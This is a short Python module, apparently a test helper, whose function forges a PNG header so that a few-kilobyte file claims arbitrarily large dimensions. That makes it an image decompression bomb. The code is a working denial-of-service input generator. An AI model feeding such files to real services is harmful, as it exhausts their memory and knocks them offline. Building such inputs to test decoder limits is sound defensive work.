"""Image files that are an attack."""

from __future__ import annotations

import io
import zlib

from PIL import Image


def bomb(side):
    """A PNG of side x side pixels in a few kilobytes."""
    buffer = io.BytesIO()
    Image.new("1", (8, 8)).save(buffer, "PNG")
    small = buffer.getvalue()
    header = side.to_bytes(4, "big") * 2 + bytes([1, 0, 0, 0, 0])
    chunk = b"IHDR" + header
    return small[:8] + (13).to_bytes(4, "big") + chunk + zlib.crc32(chunk).to_bytes(4, "big") + small[33:]
